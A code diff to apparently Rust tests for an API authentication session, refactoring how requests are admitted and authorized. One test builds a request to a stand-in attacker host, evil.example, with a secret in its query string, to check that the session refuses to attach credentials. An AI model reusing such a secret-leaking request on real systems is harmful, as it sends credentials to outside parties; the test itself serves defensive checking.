@@ -94,6 +94,10 @@ impl Play {
 
     /// Asks the session, and formats its answer and what it would have explained.
     fn admit(&mut self, call: Call) -> Step {
+        self.admit_with(call, &mut request())
+    }
+
+    fn admit_with(&mut self, call: Call, request: &mut Request<()>) -> Step {
         let explanation = self.session.explain(self.now());
         if let Explanation::Authenticate { why } = explanation {
             EARS.hear(&why);
@@ -101,7 +105,7 @@ impl Play {
         EARS.hear(&explanation);
         EARS.read(&explanation);
         EARS.hear(&call);
-        let step = self.session.admit(call, self.now());
+        let step = self.session.admit(call, request, self.now()).unwrap();
         EARS.hear(&step);
         EARS.hear(&self.session);
         step
@@ -130,10 +134,10 @@ impl Play {
     }
 
     fn send(&mut self) -> Attempt {
-        let Step::Send(permit) = self.admit(Call::replayable()) else { panic!("a token is held") };
-        EARS.hear(&permit);
-        let mut request = Request::get("https://api.waldo.ai/customer").body(()).unwrap();
-        let attempt = permit.authorize(&mut request).unwrap();
+        let mut request = request();
+        let Step::Send(attempt) = self.admit_with(Call::replayable(), &mut request) else {
+            panic!("a token is held")
+        };
         EARS.hear(&request);
         EARS.hear(&attempt);
         attempt
@@ -154,11 +158,10 @@ impl Play {
         self.grant();
         let login = answer_to_nobody(&mut Session::new(config()), self.now());
         self.session.settle(login, Outcome::Abandoned, self.now());
-        let Step::Send(permit) = self.admit(Call::one_shot()) else { panic!("a token is held") };
         let mut elsewhere =
             Request::get(format!("https://evil.example/?{SECRET:?}").replace('"', "")).body(());
         if let Ok(request) = &mut elsewhere {
-            EARS.hear_error(&permit.authorize(request).unwrap_err());
+            EARS.hear_error(&self.session.admit(Call::one_shot(), request, self.now()).unwrap_err());
         }
     }
 
@@ -250,13 +253,17 @@ impl Play {
     }
 }
 
+fn request() -> Request<()> {
+    Request::get("https://api.waldo.ai/customer").body(()).unwrap()
+}
+
 fn answer(login: &Login, status: u16, body: &str) -> Outcome {
     let headers = HeaderMap::new();
     login.read(Head::new(StatusCode::from_u16(status).unwrap(), &headers), body.as_bytes())
 }
 
 fn answer_to_nobody(session: &mut Session, now: Now) -> Login {
-    match session.admit(Call::replayable(), now) {
+    match session.admit(Call::replayable(), &mut request(), now).unwrap() {
         Step::Authenticate(login, _) => login,
         step @ (Step::Send(_) | Step::Wait(..) | Step::Refuse(_)) => panic!("it is cold, and yet {step:?}"),
     }
